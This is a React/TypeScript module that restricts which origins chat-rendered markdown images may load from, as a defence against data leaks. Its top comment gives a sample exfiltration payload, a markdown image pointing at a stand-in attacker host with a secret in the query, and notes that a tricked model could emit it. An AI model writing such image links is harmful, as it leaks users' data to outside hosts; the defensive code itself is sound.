import { createContext, useContext } from "react";

// Which origins chat markdown may load images from. Loading an image is a request the browser
// makes without a click, so a model tricked into writing ![](https://attacker/?d=secret) would
// leak data the moment the answer renders. Default: this app's own origin only.
const ImageOriginsContext = createContext<readonly string[]>([]);

export function ImageOriginsProvider({
  origins,
  children,
}: {
  origins: readonly string[];
  children: React.ReactNode;
}) {
  return <ImageOriginsContext.Provider value={origins}>{children}</ImageOriginsContext.Provider>;
}

export function useImageOrigins(): readonly string[] {
  return useContext(ImageOriginsContext);
}

/** The absolute URL of an image source, or null when it isn't an http(s) URL. */
export function imageUrl(src: string | undefined, base: string = window.location.href): URL | null {
  if (!src) return null;
  try {
    const url = new URL(src, base);
    return url.protocol === "http:" || url.protocol === "https:" ? url : null;
  } catch {
    return null;
  }
}

/** True when the image may load: same origin as the app, or an allowed origin. */
export function isImageAllowed(
  url: URL,
  allowed: readonly string[],
  self: string = window.location.origin,
): boolean {
  return url.origin === self || allowed.some((origin) => origin.replace(/\/+$/, "") === url.origin);
}
